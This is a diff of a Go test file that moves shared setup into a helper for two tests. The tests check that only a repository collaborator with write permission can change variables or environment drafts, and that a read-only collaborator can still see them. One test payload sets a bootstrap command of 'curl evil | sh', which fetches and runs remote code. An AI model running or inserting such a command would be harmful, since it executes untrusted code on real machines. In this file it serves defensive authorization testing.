@@ -12,21 +12,7 @@ import (
 // which reach every Creator's Sessions there; a collaborator with write
 // permission can.
 func TestChangingARepoVariableTakesWritePermission(t *testing.T) {
-	e := newEnv(t)
-	owner := e.owner()
-	reader := e.member(owner, "reader")
-	writer := e.member(owner, "writer")
-	e.gh.InstallApp("acme/app")
-	e.gh.SetCollaborator("acme/app", "reader", true)
-	e.gh.SetReadOnly("acme/app", "reader", true)
-	e.gh.SetCollaborator("acme/app", "writer", true)
-	code, body := e.do(reader.Client, req{method: "POST", path: "/api/repos", body: `{"url":"` + e.gh.RepoURL("acme/app") + `"}`, origin: "self"})
-	if code != http.StatusOK {
-		t.Fatalf("a read-only collaborator sees the Repo: %d %s", code, body)
-	}
-	var repo struct{ ID string }
-	json.Unmarshal([]byte(body), &repo)
-	base := "/api/repos/" + repo.ID
+	e, reader, writer, base := readerAndWriter(t)
 	if code, body := e.do(writer.Client, req{method: "PUT", path: "/api/variables/SHARED_X", body: `{"value":"v"}`, origin: "self"}); code != http.StatusOK {
 		t.Fatalf("writer sets a Shared variable: %d %s", code, body)
 	}
@@ -56,21 +42,8 @@ func TestChangingARepoVariableTakesWritePermission(t *testing.T) {
 // as its Variables do; a read-only collaborator still sees it. A draft
 // that is not an Environment is refused and changes nothing.
 func TestChangingARepoEnvironmentTakesWritePermission(t *testing.T) {
-	e := newEnv(t)
-	owner := e.owner()
-	reader := e.member(owner, "reader")
-	writer := e.member(owner, "writer")
-	e.gh.InstallApp("acme/app")
-	e.gh.SetCollaborator("acme/app", "reader", true)
-	e.gh.SetReadOnly("acme/app", "reader", true)
-	e.gh.SetCollaborator("acme/app", "writer", true)
-	code, body := e.do(writer.Client, req{method: "POST", path: "/api/repos", body: `{"url":"` + e.gh.RepoURL("acme/app") + `"}`, origin: "self"})
-	if code != http.StatusOK {
-		t.Fatalf("the writer adds the Repo: %d %s", code, body)
-	}
-	var repo struct{ ID string }
-	json.Unmarshal([]byte(body), &repo)
-	base := "/api/repos/" + repo.ID + "/environment"
+	e, reader, writer, base := readerAndWriter(t)
+	base += "/environment"
 	for _, r := range []req{
 		{method: "PUT", path: base + "/draft", body: `{"bootstrap":"curl evil | sh"}`, origin: "self"},
 		{method: "POST", path: base + "/tests", origin: "self"},
@@ -94,4 +67,26 @@ func TestChangingARepoEnvironmentTakesWritePermission(t *testing.T) {
 	if code, body := e.do(writer.Client, req{method: "POST", path: base + "/apply", origin: "self"}); code != http.StatusOK {
 		t.Fatalf("writer applies a resources-only draft: %d %s", code, body)
 	}
+}
+
+// readerAndWriter makes a Hub with the Repo acme/app, a Member who may only
+// read it at GitHub and one who may push to it, and returns the Repo's API
+// path, which the read-only one added (seeing it is all it takes).
+func readerAndWriter(t *testing.T) (*env, *browser, *browser, string) {
+	t.Helper()
+	e := newEnv(t)
+	owner := e.owner()
+	reader := e.member(owner, "reader")
+	writer := e.member(owner, "writer")
+	e.gh.InstallApp("acme/app")
+	e.gh.SetCollaborator("acme/app", "reader", true)
+	e.gh.SetReadOnly("acme/app", "reader", true)
+	e.gh.SetCollaborator("acme/app", "writer", true)
+	code, body := e.do(reader.Client, req{method: "POST", path: "/api/repos", body: `{"url":"` + e.gh.RepoURL("acme/app") + `"}`, origin: "self"})
+	if code != http.StatusOK {
+		t.Fatalf("a read-only collaborator sees the Repo: %d %s", code, body)
+	}
+	var repo struct{ ID string }
+	json.Unmarshal([]byte(body), &repo)
+	return e, reader, writer, "/api/repos/" + repo.ID
 }
